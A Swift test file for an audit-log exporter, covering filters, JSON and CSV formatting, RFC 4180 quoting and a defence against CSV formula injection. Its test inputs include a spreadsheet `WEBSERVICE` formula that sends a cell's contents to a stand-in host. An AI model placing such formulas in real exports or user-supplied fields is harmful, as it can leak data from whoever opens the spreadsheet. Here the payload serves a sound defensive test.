import SDEAudit
import Testing

@Suite struct AuditExportTests {
    let events: [AuditEvent]

    init() throws { events = try ChainFixture(count: 42).events }

    @Test func filtersByProjectActorAndTimeWindow() {
        let byProject = events.filter(AuditFilter(project: "P2026-003").matches)
        #expect(!byProject.isEmpty && byProject.allSatisfy { $0.project == "P2026-003" })
        #expect(byProject.count == events.filter { $0.project == "P2026-003" }.count)

        let byActor = events.filter(AuditFilter(actor: "u.okafor").matches)
        #expect(!byActor.isEmpty && byActor.allSatisfy { $0.actor == "u.okafor" })

        let window = AuditFilter(since: ChainFixture.time(10), until: ChainFixture.time(20))
        #expect(events.filter(window.matches).map(\.sequence) == Array(11...20))

        let both = AuditFilter(project: "P2026-007", actor: "u.okafor", since: ChainFixture.time(5))
        let picked = events.filter(both.matches)
        #expect(!picked.isEmpty)
        #expect(picked.allSatisfy { $0.project == "P2026-007" && $0.actor == "u.okafor" && $0.time >= ChainFixture.time(5) })
        #expect(events.filter(AuditFilter().matches).count == 42)
    }

    @Test func jsonExportIsAnArrayOfCanonicalEvents() throws {
        let filter = AuditFilter(actor: "u.khan")
        let json = AuditExporter.render(events, format: .json, filter: filter)
        #expect(json.hasPrefix("[\n{"))
        #expect(json.hasSuffix("}\n]\n"))
        let objects = json.dropFirst(2).dropLast(3).split(separator: ",\n{").enumerated().map {
            $0.offset == 0 ? String($0.element) : "{" + $0.element
        }
        let decoded = try objects.map { try AuditJSONL.decode($0) }
        #expect(decoded == events.filter(filter.matches))
        #expect(AuditExporter.render([], format: .json) == "[]\n")
    }

    @Test func csvHasHeaderCRLFAndOneRowPerEvent() {
        let csv = AuditExporter.render(events, format: .csv, filter: AuditFilter(project: "P2026-003"))
        let rows = csv.split(separator: "\r\n", omittingEmptySubsequences: false)
        let header =
            "sequence,time,actor,role,project,action,target,parameters,policy_digest,outcome,reason,"
            + "cells_released,cells_suppressed,output_sha256,checkpoint,prev_hash,hash"
        #expect(rows.first.map(String.init) == header)
        #expect(rows.last == "")
        #expect(rows.count == events.filter { $0.project == "P2026-003" }.count + 2)
        let first = events.first { $0.project == "P2026-003" }!
        #expect(rows[1].hasPrefix("1,2026-11-26T09:00:00.000Z,u.khan,researcher,P2026-003,query.run,requests-by-la-quarter,"))
        #expect(rows[1].hasSuffix(",\(first.prevHash.hex),\(first.hash.hex)"))
        #expect(AuditExporter.render([], format: .csv).split(separator: "\r\n").count == 1)
    }

    @Test func csvQuotesPerRFC4180() throws {
        let draft = try AuditEventDraft(
            actor: "u,\"q\"", role: "researcher", project: "P1", action: .queryRun, parameters: ["area": "North East, \"inner\""], outcome: .allowed,
            cells: AuditCellCounts(released: 2, suppressed: ["threshold": 1]))
        let event = AuditChain().seal(draft, at: ChainFixture.time(0))
        let row = AuditExporter.render([event], format: .csv).split(separator: "\r\n")[1]
        #expect(
            row.hasPrefix(#"1,2026-11-26T09:00:00.000Z,"u,""q""",researcher,P1,query.run,,"{""area"":""North East, \""inner\""""}",,allowed,,2,"#))
        #expect(row.contains(#","{""threshold"":1}","#))
    }

    @Test func checkpointsExportTheirSignedHead() {
        let checkpoint = events[5]
        let row = AuditExporter.render([checkpoint], format: .csv).split(separator: "\r\n")[1]
        #expect(row.contains(#""{""head_hash"":""\#(events[4].hash.hex)"",""head_sequence"":5,"#))
        #expect(row.hasPrefix("6,2026-11-26T09:00:50.000Z,sde-broker,,,audit.checkpoint,,{},"))
    }
}

/// A caller's text in an export never reaches a spreadsheet as a formula (issue 13: a path id `=WEBSERVICE(...)` was
/// stored verbatim and exported as one).
@Suite struct AuditExportFormulaTests {
    /// The fields of one RFC 4180 record (no line ends inside).
    static func fields(_ row: Substring) -> [String] {
        var fields: [String] = [], field = "", quoted = false, chars = Array(row), i = 0
        while i < chars.count {
            let c = chars[i]
            if quoted {
                if c != "\"" {
                    field.append(c)
                } else if i + 1 < chars.count && chars[i + 1] == "\"" {
                    field.append("\"")
                    i += 1
                } else {
                    quoted = false
                }
            } else if c == "\"" {
                quoted = true
            } else if c == "," {
                fields.append(field)
                field = ""
            } else {
                field.append(c)
            }
            i += 1
        }
        return fields + [field]
    }

    @Test(arguments: ["=WEBSERVICE(\"http://x.test/\"&A1)", "+1+2", "-2+3", "@SUM(A1:A9)"])
    func aFieldThatStartsAFormulaIsPrefixed(_ text: String) throws {
        let draft = try AuditEventDraft(
            actor: text, role: "researcher", project: text, action: .queryDenied, target: text, parameters: ["p": text], outcome: .denied,
            reason: "-unknown_query")
        let event = AuditChain().seal(draft, at: ChainFixture.time(0))
        let row = AuditExporter.render([event], format: .csv).split(separator: "\r\n")[1]
        let fields = Self.fields(row)
        #expect(fields.count == AuditExporter.csvColumns.count)
        for (column, field) in zip(AuditExporter.csvColumns, fields) {
            #expect(!["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"].contains(field.first.map(String.init) ?? ""), "\(column): \(field)")
        }
        // The text itself survives behind the apostrophe, so the review still sees what was sent.
        #expect(fields[2] == "'" + text && fields[4] == "'" + text && fields[6] == "'" + text && fields[10] == "'-unknown_query")
    }

    @Test func plainFieldsAreUnchanged() throws {
        let draft = try AuditEventDraft(actor: "u.khan", role: "researcher", project: "P1", action: .queryRun, target: "q-1", outcome: .allowed)
        let row = AuditExporter.render([AuditChain().seal(draft, at: ChainFixture.time(0))], format: .csv).split(separator: "\r\n")[1]
        #expect(row.hasPrefix("1,2026-11-26T09:00:00.000Z,u.khan,researcher,P1,query.run,q-1,{},"))
    }
}
